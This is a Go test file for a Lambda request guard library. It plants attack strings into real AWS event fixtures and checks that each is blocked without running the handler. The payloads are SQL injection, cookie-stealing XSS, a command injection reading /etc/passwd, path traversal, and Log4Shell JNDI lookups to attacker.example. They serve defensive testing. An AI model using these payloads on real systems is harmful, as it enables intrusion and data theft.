package guardlambda

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/aws/aws-lambda-go/lambda"

	"github.com/fnguard/fnguard/guard"
)

// Attacks planted in real events of every family, in the fields their
// platform fills from client input, encoded as the platform encodes them.
// Each must be blocked with the answer the platform expects, and the
// handler must not run (Firehose: not for the poisoned record).

const (
	atkSQLi = "1' OR '1'='1' --"
	atkXSS  = "<script>alert(document.cookie)</script>"
	atkCmdI = "; cat /etc/passwd"
	atkJNDI = "${jndi:ldap://attacker.example/a}"
)

// realEvent reads a fixture under testdata/real and lets edit change its
// decoded JSON.
func plant(t *testing.T, rel string, edit func(m any)) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", "real", rel))
	if err != nil {
		t.Fatal(err)
	}
	var m any
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatal(err)
	}
	edit(m)
	out, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// at walks decoded JSON: keys for objects, ints for arrays.
func at(m any, path ...any) any {
	for _, p := range path {
		switch k := p.(type) {
		case string:
			m = m.(map[string]any)[k]
		case int:
			m = m.([]any)[k]
		}
	}
	return m
}

func obj(m any, path ...any) map[string]any { return at(m, path...).(map[string]any) }

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

type answerCheck func(t *testing.T, out []byte, err error)

// wantError: a *guard.BlockedError (guard.ErrBlocked) with a finding at loc.
func wantError(loc string) answerCheck {
	return func(t *testing.T, out []byte, err error) {
		t.Helper()
		var be *guard.BlockedError
		if !errors.As(err, &be) || !errors.Is(err, guard.ErrBlocked) {
			t.Fatalf("got %s, %v; want a *guard.BlockedError", out, err)
		}
		for _, f := range be.Decision.Findings {
			if f.Location == loc {
				return
			}
		}
		t.Fatalf("no finding at %s: %+v", loc, be.Decision.Findings)
	}
}

// wantJSON: no error, and a JSON answer with these members (compared as
// decoded JSON; nested values by their JSON encoding).
func wantJSON(want map[string]string) answerCheck {
	return func(t *testing.T, out []byte, err error) {
		t.Helper()
		if err != nil {
			t.Fatalf("error %v; want an answer", err)
		}
		var m map[string]json.RawMessage
		if err := json.Unmarshal(out, &m); err != nil {
			t.Fatalf("answer %s is not a JSON object: %v", out, err)
		}
		for k, v := range want {
			if string(m[k]) != v {
				t.Fatalf("answer %s: %s is %s, want %s", out, k, m[k], v)
			}
		}
	}
}

func denyPolicyCheck(simple bool, resource string) answerCheck {
	return func(t *testing.T, out []byte, err error) {
		t.Helper()
		if err != nil {
			t.Fatalf("error %v; an authorizer must answer with a policy", err)
		}
		var resp struct {
			IsAuthorized   *bool  `json:"isAuthorized"`
			StatusCode     *int   `json:"statusCode"`
			PrincipalID    string `json:"principalId"`
			PolicyDocument struct {
				Version   string
				Statement []struct {
					Action   []string
					Effect   string
					Resource []string
				}
			} `json:"policyDocument"`
		}
		if err := json.Unmarshal(out, &resp); err != nil {
			t.Fatalf("answer %s: %v", out, err)
		}
		st := resp.PolicyDocument.Statement
		if resp.StatusCode != nil || resp.PrincipalID == "" || len(st) != 1 || st[0].Effect != "Deny" ||
			len(st[0].Action) != 1 || st[0].Action[0] != "execute-api:Invoke" || len(st[0].Resource) != 1 || st[0].Resource[0] != resource ||
			resp.PolicyDocument.Version != "2012-10-17" {
			t.Fatalf("answer %s is not a Deny policy on %s", out, resource)
		}
		if simple != (resp.IsAuthorized != nil) || resp.IsAuthorized != nil && *resp.IsAuthorized {
			t.Fatalf("answer %s: isAuthorized must be false for payload 2.0 and absent otherwise", out)
		}
	}
}

func TestFamilyAttacks(t *testing.T) {
	tests := []struct {
		name    string
		fixture string
		edit    func(m any)
		check   answerCheck
	}{
		{"REST TOKEN authorizer: SQLi in the token", "aws-lambda-go/events/apigw-custom-auth-request.json",
			func(m any) { obj(m)["authorizationToken"] = "Bearer " + atkSQLi },
			denyPolicyCheck(false, "arn:aws:execute-api:us-west-2:123456789012:ymy8tbxw7b/*/GET/")},
		{"REST REQUEST authorizer: XSS in a query parameter", "aws-lambda-go/events/apigw-custom-auth-request-type-request.json",
			func(m any) {
				obj(m, "queryStringParameters")["QueryString1"] = atkXSS
				obj(m, "multiValueQueryStringParameters")["QueryString1"] = []any{atkXSS}
			},
			denyPolicyCheck(false, "arn:aws:execute-api:us-east-1:123456789012:s4x3opwd6i/test/GET/request")},
		{"HTTP API payload 1.0 authorizer: cmdi in a header", "aws-lambda-go/events/apigw-v2-custom-authorizer-v1-request.json",
			func(m any) { obj(m, "headers")["X-Order"] = atkCmdI },
			denyPolicyCheck(false, "arn:aws:execute-api:us-east-1:123456789012:abcdef123/test/GET/request")},
		{"HTTP API payload 2.0 authorizer: JNDI in a header", "aws-lambda-go/events/apigw-v2-custom-authorizer-v2-request.json",
			func(m any) { obj(m, "headers")["x-order"] = atkJNDI },
			denyPolicyCheck(true, "arn:aws:execute-api:us-east-1:123456789012:abcdef123/test/GET/request")},
		{"WebSocket $connect authorizer: SQLi in the query", "powertools-typescript/packages/parser/tests/events/apigw-websocket/connectEvent.json",
			func(m any) {
				obj(m)["queryStringParameters"] = map[string]any{"room": atkSQLi}
				obj(m)["multiValueQueryStringParameters"] = map[string]any{"room": []any{atkSQLi}}
			},
			denyPolicyCheck(false, "arn:aws:execute-api:us-east-1:123456789012:abcdef123/default/$connect")},
		{"WebSocket message: SQLi in the body", "aws-lambda-go/events/apigw-websocket-request-send-message.json",
			func(m any) { obj(m)["body"] = `{"action":"sendmessage","data":"` + atkSQLi + `"}` },
			wantJSON(map[string]string{"statusCode": "403"})},
		{"WebSocket $connect: XSS in the query", "aws-lambda-go/events/apigw-websocket-request.json",
			func(m any) {
				obj(m, "queryStringParameters")["name"] = atkXSS
				obj(m, "multiValueQueryStringParameters")["name"] = []any{atkXSS}
			},
			wantJSON(map[string]string{"statusCode": "403"})},
		{"AppSync resolver: SQLi in an argument", "powertools-python/appSyncDirectResolver.json",
			func(m any) { obj(m, "arguments")["id"] = atkSQLi },
			wantError("arguments.id")},
		{"AppSync resolver (mapping template form): XSS in an argument", "powertools-python/appSyncResolverEvent.json",
			func(m any) { obj(m, "arguments")["name"] = atkXSS },
			wantError("arguments.name")},
		{"AppSync authorizer: XSS in a literal of the query", "powertools-python/appSyncAuthorizerEvent.json",
			func(m any) {
				rc := obj(m, "requestContext")
				rc["queryString"] = strings.Replace(rc["queryString"].(string), `owner: \"ccc\"`, `owner: "`+strings.ReplaceAll(atkXSS, `"`, `\"`)+`"`, 1)
				rc["queryString"] = strings.Replace(rc["queryString"].(string), `owner: "ccc"`, `owner: "`+atkXSS+`"`, 1)
			},
			wantJSON(map[string]string{"isAuthorized": "false"})},
		{"AppSync authorizer: SQLi in a variable", "powertools-python/appSyncAuthorizerEvent.json",
			func(m any) { obj(m, "requestContext", "variables")["desc"] = atkSQLi },
			wantJSON(map[string]string{"isAuthorized": "false"})},
		{"VPC Lattice v1: SQLi in the base64 body", "powertools-python/vpcLatticeEvent.json",
			func(m any) { obj(m)["body"] = b64(`{"test":"` + atkSQLi + `"}`) },
			wantJSON(map[string]string{"statusCode": "403", "statusDescription": `"403 Forbidden"`})},
		{"VPC Lattice v2: cmdi in a multi-value header", "powertools-python/vpcLatticeV2EventWithHeaders.json",
			func(m any) { obj(m, "headers")["x-order"] = []any{"ok", atkCmdI} },
			wantJSON(map[string]string{"statusCode": "403"})},
		{"VPC Lattice v2: SQLi in the second value of a multi-value query parameter", "powertools-python/vpcLatticeV2EventWithHeaders.json",
			func(m any) { obj(m)["queryStringParameters"] = map[string]any{"q": []any{"shoes", atkSQLi}} },
			wantJSON(map[string]string{"statusCode": "403"})},
		{"Cognito pre sign-up: XSS in a user attribute", "aws-lambda-go/events/cognito-event-userpools-presignup.json",
			func(m any) { obj(m, "request", "userAttributes")["name"] = atkXSS },
			wantError("request.userAttributes.name")},
		{"MSK: SQLi in a base64 value", "aws-lambda-go/events/kafka-event.json",
			func(m any) {
				r := obj(m, "records", "AWSKafkaTopic-0", 0)
				r["value"] = b64(`{"order":"` + atkSQLi + `"}`)
			},
			wantError("records[0].value<base64>.order")},
		{"self-managed Kafka: cmdi in a header's bytes", "powertools-python/kafkaEventSelfManaged.json",
			func(m any) {
				r := obj(m, "records", "mytopic-0", 0)
				var bs []any
				for _, c := range []byte(atkCmdI) {
					bs = append(bs, float64(c))
				}
				r["headers"] = []any{map[string]any{"x-cmd": bs}}
			},
			wantError(`records[0].headers[0]["x-cmd"]`)},
		{"ActiveMQ: cmdi in base64 data", "aws-lambda-go/events/activemq-event.json",
			func(m any) { obj(m, "messages", 0)["data"] = b64("run " + atkCmdI) },
			wantError("records[0].data<base64>")},
		{"RabbitMQ: JNDI in base64 data", "aws-lambda-go/events/rabbitmq-event.json",
			func(m any) { obj(m, "rmqMessagesByQueue", "test::/", 0)["data"] = b64(`{"user":"` + atkJNDI + `"}`) },
			wantError("records[0].data<base64>.user")},
		{"SES: XSS in the subject", "aws-lambda-go/events/ses-lambda-event.json",
			func(m any) { obj(m, "Records", 0, "ses", "mail", "commonHeaders")["subject"] = atkXSS },
			wantJSON(map[string]string{"disposition": `"STOP_RULE_SET"`})},
		{"CodeCommit: cmdi in a pushed branch name", "aws-lambda-go/events/code-commit-event.json",
			func(m any) { obj(m, "Records", 0, "codecommit", "references", 0)["ref"] = "refs/heads/x" + atkCmdI },
			wantError("records[0].codecommit.references[0].ref")},
	}
	tests = append(tests, moreFamilyAttacks...)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			g, _ := testGuard(t)
			payload := plant(t, tt.fixture, tt.edit)
			ran := false
			h := WrapHandler(g, lambda.NewHandler(func(context.Context, json.RawMessage) (any, error) {
				ran = true
				return nil, nil
			}))
			out, err := h.Invoke(lambdaCtx("req-atk"), payload)
			if ran {
				t.Fatalf("the handler ran; answer %s, %v", out, err)
			}
			tt.check(t, out, err)
			// The unpoisoned fixture passes.
			clean := plant(t, tt.fixture, func(any) {})
			ran = false
			if out, err := h.Invoke(lambdaCtx("req-ok"), clean); err != nil || !ran {
				t.Fatalf("clean fixture: %s, %v", out, err)
			}
		})
	}
}

// gzipB64 is how CloudWatch Logs sends a subscription's data.
func gzipB64(v any) string {
	js, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	zw.Write(js)
	zw.Close()
	return base64.StdEncoding.EncodeToString(buf.Bytes())
}

var moreFamilyAttacks = []struct {
	name    string
	fixture string
	edit    func(m any)
	check   answerCheck
}{
	{"CloudWatch Logs: XSS in a gzip log message", "aws-lambda-go/events/cloudwatch-logs-event.json",
		func(m any) {
			obj(m, "awslogs")["data"] = gzipB64(map[string]any{
				"messageType": "DATA_MESSAGE", "owner": "123456789012", "logGroup": "/aws/lambda/shop", "logStream": "2026/12/06/[$LATEST]abc",
				"subscriptionFilters": []any{"all"},
				"logEvents": []any{
					map[string]any{"id": "1", "timestamp": 1, "message": "GET /orders 200"},
					map[string]any{"id": "2", "timestamp": 2, "message": "comment posted: " + atkXSS},
				},
			})
		},
		wantError("awslogs.data<gzip+base64>.logEvents[1].message")},
	{"S3 Batch: traversal in an encoded object key", "aws-lambda-go/events/s3-batch-job-event-request-1.0.json",
		func(m any) { obj(m, "tasks", 0)["s3Key"] = "..%2F..%2F..%2Fetc%2Fpasswd" },
		func(t *testing.T, out []byte, err error) {
			t.Helper()
			wantJSON(map[string]string{"invocationSchemaVersion": `"1.0"`, "treatMissingKeysAs": `"PermanentFailure"`})(t, out, err)
			if !strings.Contains(string(out), `"resultCode":"PermanentFailure"`) || !strings.Contains(string(out), `"taskId":"dGFza2lkZ29lc2hlcmUK"`) {
				t.Fatalf("answer %s does not fail the task", out)
			}
		}},
	{"S3 Object Lambda: SQLi in the client's query", "aws-lambda-go/events/s3-object-lambda-event-get-object-iam.json",
		func(m any) {
			obj(m, "userRequest")["url"] = "https://object-lambda-111122223333.s3-object-lambda.us-east-1.amazonaws.com/example?filter=" + strings.ReplaceAll(atkSQLi, " ", "%20")
		},
		wantError("query.filter")},
	{"S3 Object Lambda: a lookup before a scheme-like \"://\" in the URL", "aws-lambda-go/events/s3-object-lambda-event-get-object-iam.json",
		func(m any) {
			// "${...}ndi:ldap" is no URL scheme: the whole URL is the path
			obj(m, "userRequest")["url"] = "${${lower:j}ndi:ldap://x.example/a}"
		},
		wantError("path")},
	{"CloudFormation: cmdi in a resource property", "aws-lambda-go/cfn/cloudformation-event.json",
		func(m any) { obj(m, "ResourceProperties")["Command"] = "backup" + atkCmdI },
		wantError("ResourceProperties.Command")},
	{"Secrets Manager: traversal in the secret id", "powertools-python/secretsManagerEvent.json",
		func(m any) { obj(m)["SecretId"] = "../../../../etc/passwd" },
		wantError("SecretId")},
	{"Bedrock agent: SQLi in a request body property", "powertools-python/bedrockAgentPostEvent.json",
		func(m any) {
			obj(m, "requestBody", "content", "application/json", "properties", 0)["value"] = atkSQLi
		},
		func(t *testing.T, out []byte, err error) {
			t.Helper()
			wantJSON(map[string]string{"messageVersion": `"1.0"`})(t, out, err)
			if !strings.Contains(string(out), `"httpStatusCode":403`) || !strings.Contains(string(out), `"apiPath":"/send-reminders"`) {
				t.Fatalf("answer %s", out)
			}
		}},
	{"Lex V1: XSS in the transcript", "aws-lambda-go/events/lex-event.json",
		func(m any) { obj(m)["inputTranscript"] = atkXSS },
		wantJSON(map[string]string{"dialogAction": `{"type":"Close","fulfillmentState":"Failed","message":{"contentType":"PlainText","content":"Sorry, I can't help with that request."}}`})},
	{"Lex V2: SQLi in a slot value", "../families/lexv2_benign.json",
		func(m any) {
			obj(m, "interpretations", 0, "intent", "slots", "City", "value")["originalValue"] = atkSQLi
		},
		wantJSON(map[string]string{
			"sessionState": `{"dialogAction":{"type":"Close"},"intent":{"name":"BookHotel","state":"Failed"}}`,
			"messages":     `[{"contentType":"PlainText","content":"Sorry, I can't help with that request."}]`,
		})},
	{"Connect: cmdi in a contact attribute", "aws-lambda-go/events/connect-event.json",
		func(m any) { obj(m, "Details", "ContactData", "Attributes")["note"] = atkCmdI },
		wantError("Details.ContactData.Attributes.note")},
	{"IoT custom authorizer: SQLi in the token", "aws-lambda-go/events/iot-custom-auth-request.json",
		func(m any) { obj(m)["token"] = atkSQLi },
		wantJSON(map[string]string{"isAuthenticated": "false"})},
	{"IoT pre-provisioning hook: XSS in a parameter", "aws-lambda-go/events/iot-preprovision-hook-request.json",
		func(m any) { obj(m)["parameters"] = map[string]any{"DeviceLocation": atkXSS} },
		wantJSON(map[string]string{"allowProvisioning": "false"})},
	{"Config rule: JNDI inside the invokingEvent JSON string", "aws-lambda-go/events/config-event.json",
		func(m any) {
			var ie map[string]any
			json.Unmarshal([]byte(obj(m)["invokingEvent"].(string)), &ie)
			ie["note"] = atkJNDI
			b, _ := json.Marshal(ie)
			obj(m)["invokingEvent"] = string(b)
		},
		wantError("invokingEvent.note")},
	{"Transfer Family: SQLi in the user name", "powertools-typescript/packages/parser/tests/events/transfer-family/base.json",
		func(m any) { obj(m)["username"] = "admin" + atkSQLi },
		func(t *testing.T, out []byte, err error) {
			t.Helper()
			if err != nil || strings.TrimSpace(string(out)) != "{}" {
				t.Fatalf("got %s, %v; want {} (no Role)", out, err)
			}
		}},
	{"Client VPN: cmdi in the reported platform", "aws-lambda-go/events/clientvpn-connectionhandler-request.json",
		func(m any) { obj(m)["platform"] = "linux" + atkCmdI },
		wantJSON(map[string]string{"allow": "false", "schema-version": `"v1"`})},
}

// TestFirehosePartial: a poisoned Firehose record comes back with result
// ProcessingFailed and its data unchanged, the clean one reaches the
// handler, whose response is kept.
func TestFirehosePartial(t *testing.T) {
	g, _ := testGuard(t)
	var poisoned string
	payload := plant(t, "aws-lambda-go/events/kinesis-firehose-event.json", func(m any) {
		poisoned = b64(`{"comment":"` + atkXSS + `"}`)
		obj(m, "records", 1)["data"] = poisoned
	})
	var got []string
	h := WrapHandler(g, lambda.NewHandler(func(_ context.Context, e struct {
		Records []struct {
			RecordID string `json:"recordId"`
			Data     []byte `json:"data"`
		} `json:"records"`
	}) (any, error) {
		type rec struct {
			RecordID string `json:"recordId"`
			Result   string `json:"result"`
			Data     []byte `json:"data"`
		}
		var out struct {
			Records []rec `json:"records"`
		}
		for _, r := range e.Records {
			got = append(got, r.RecordID)
			out.Records = append(out.Records, rec{r.RecordID, "Ok", r.Data})
		}
		return out, nil
	}))
	out, err := h.Invoke(lambdaCtx("req-fh"), payload)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 || got[0] != "record1" {
		t.Fatalf("handler got %v, want only record1", got)
	}
	var resp struct {
		Records []struct{ RecordID, Result, Data string }
	}
	if err := json.Unmarshal(out, &resp); err != nil {
		t.Fatalf("%s: %v", out, err)
	}
	if len(resp.Records) != 2 || resp.Records[0].RecordID != "record1" || resp.Records[0].Result != "Ok" ||
		resp.Records[1].RecordID != "record2" || resp.Records[1].Result != "ProcessingFailed" || resp.Records[1].Data != poisoned {
		t.Fatalf("response %s", out)
	}

	// Every record poisoned: no handler call, all ProcessingFailed.
	all := plant(t, "aws-lambda-go/events/kinesis-firehose-event.json", func(m any) {
		for i := range 2 {
			obj(m, "records", i)["data"] = b64(atkSQLi)
		}
	})
	got = nil
	out, err = h.Invoke(lambdaCtx("req-fh2"), all)
	if err != nil || len(got) != 0 {
		t.Fatalf("%s, %v, handler got %v", out, err, got)
	}
	if strings.Count(string(out), `"result":"ProcessingFailed"`) != 2 {
		t.Fatalf("response %s", out)
	}
}

// TestAppSyncBatchPartial: in a batched AppSync resolver call, a poisoned
// call is answered with an error result in its place and the handler
// resolves the others; every call poisoned: no handler call; a handler
// answer that is not one result per call fails the batch.
func TestAppSyncBatchPartial(t *testing.T) {
	g, logs := testGuard(t)
	type call struct {
		Arguments map[string]string `json:"arguments"`
	}
	var got []string
	answer := func(calls []call) []any {
		var out []any
		for _, c := range calls {
			got = append(got, c.Arguments["user_id"])
			out = append(out, map[string]any{"id": c.Arguments["user_id"]})
		}
		return out
	}
	h := WrapHandler(g, lambda.NewHandler(func(_ context.Context, calls []call) ([]any, error) { return answer(calls), nil }))
	payload := plant(t, "powertools-python/appSyncBatchEvent.json", func(m any) {
		obj(m, 0, "arguments")["name"] = atkCmdI
	})
	out, err := h.Invoke(lambdaCtx("req-as"), payload)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 || got[0] != "2" {
		t.Fatalf("handler got calls %v, want only the second (user_id 2)", got)
	}
	var res []map[string]any
	if err := json.Unmarshal(out, &res); err != nil {
		t.Fatalf("%s: %v", out, err)
	}
	if len(res) != 2 || res[0]["errorType"] != "fnguard.Blocked" || res[0]["errorMessage"] != "Forbidden" ||
		res[0]["data"] != nil || res[1]["id"] != "2" {
		t.Fatalf("response %s", out)
	}
	if strings.Contains(string(out), "cat") || strings.Contains(string(out), "cmdi") {
		t.Fatalf("the error result names the input or the rule: %s", out)
	}
	found := false
	for _, e := range logs.All() {
		if strings.Contains(e.Message, "block") {
			for _, f := range e.Context {
				if strings.Contains(f.String, "records[0].arguments.name") {
					found = true
				}
			}
		}
	}
	if !found {
		t.Fatalf("no block line at records[0].arguments.name: %v", logs.All())
	}

	// Every call poisoned: the handler does not run.
	all := plant(t, "powertools-python/appSyncBatchEvent.json", func(m any) {
		obj(m, 0, "arguments")["q"] = atkSQLi
		obj(m, 1, "arguments")["q"] = atkXSS
	})
	got = nil
	out, err = h.Invoke(lambdaCtx("req-as2"), all)
	if err != nil || len(got) != 0 || strings.Count(string(out), `"errorType":"fnguard.Blocked"`) != 2 {
		t.Fatalf("%s, %v, handler got %v", out, err, got)
	}

	// A handler that answers with one object, not one result per call.
	bad := WrapHandler(g, lambda.NewHandler(func(_ context.Context, calls []call) (map[string]any, error) {
		return map[string]any{"n": len(calls)}, nil
	}))
	if out, err := bad.Invoke(lambdaCtx("req-as3"), payload); !errors.Is(err, ErrBatchResponse) || out != nil {
		t.Fatalf("got %s, %v; want ErrBatchResponse", out, err)
	} else if !strings.Contains(err.Error(), "JSON array of 1 results, not object") {
		t.Fatalf("error %q does not say what was wrong", err)
	}
	// Too few results.
	few := WrapHandler(g, lambda.NewHandler(func(_ context.Context, calls []call) ([]any, error) { return []any{}, nil }))
	if _, err := few.Invoke(lambdaCtx("req-as4"), payload); !errors.Is(err, ErrBatchResponse) || !strings.Contains(err.Error(), "not 0") {
		t.Fatalf("got %v; want ErrBatchResponse naming the count", err)
	}
}

// TestNoGuardFamilies: a nil guard denies at authorizers rather than
// failing (which API Gateway would turn into a 500).
func TestNoGuardFamilies(t *testing.T) {
	h := WrapHandler(nil, lambda.NewHandler(func(context.Context, json.RawMessage) (any, error) { return nil, nil }))
	out, err := h.Invoke(lambdaCtx("r"), plant(t, "aws-lambda-go/events/apigw-custom-auth-request.json", func(any) {}))
	denyPolicyCheck(false, "arn:aws:execute-api:us-west-2:123456789012:ymy8tbxw7b/*/GET/")(t, out, err)
	if _, err := h.Invoke(lambdaCtx("r"), plant(t, "aws-lambda-go/events/kafka-event.json", func(any) {})); !errors.Is(err, guard.ErrNoGuard) {
		t.Fatalf("kafka with a nil guard: %v", err)
	}
}

// TestKinesisGzipLogs: a CloudWatch Logs subscription delivered through a
// Kinesis stream carries gzip records; a message in one is inspected.
func TestKinesisGzipLogs(t *testing.T) {
	g, _ := testGuard(t)
	h := WrapHandler(g, lambda.NewHandler(func(context.Context, json.RawMessage) (any, error) { return nil, nil }))
	rel := "powertools-python/kinesisStreamCloudWatchLogsEvent.json"
	if out, err := h.Invoke(lambdaCtx("r"), plant(t, rel, func(any) {})); err != nil {
		t.Fatalf("clean: %s, %v", out, err)
	}
	payload := plant(t, rel, func(m any) {
		obj(m, "Records", 0, "kinesis")["data"] = gzipB64(map[string]any{
			"messageType": "DATA_MESSAGE", "logGroup": "/aws/lambda/shop", "logStream": "s",
			"logEvents": []any{map[string]any{"id": "1", "timestamp": 1, "message": "q=" + atkSQLi}},
		})
	})
	out, err := h.Invoke(lambdaCtx("r"), payload)
	if !strings.Contains(string(out), "batchItemFailures") || err != nil {
		t.Fatalf("got %s, %v; want the record reported as a batch item failure", out, err)
	}
}
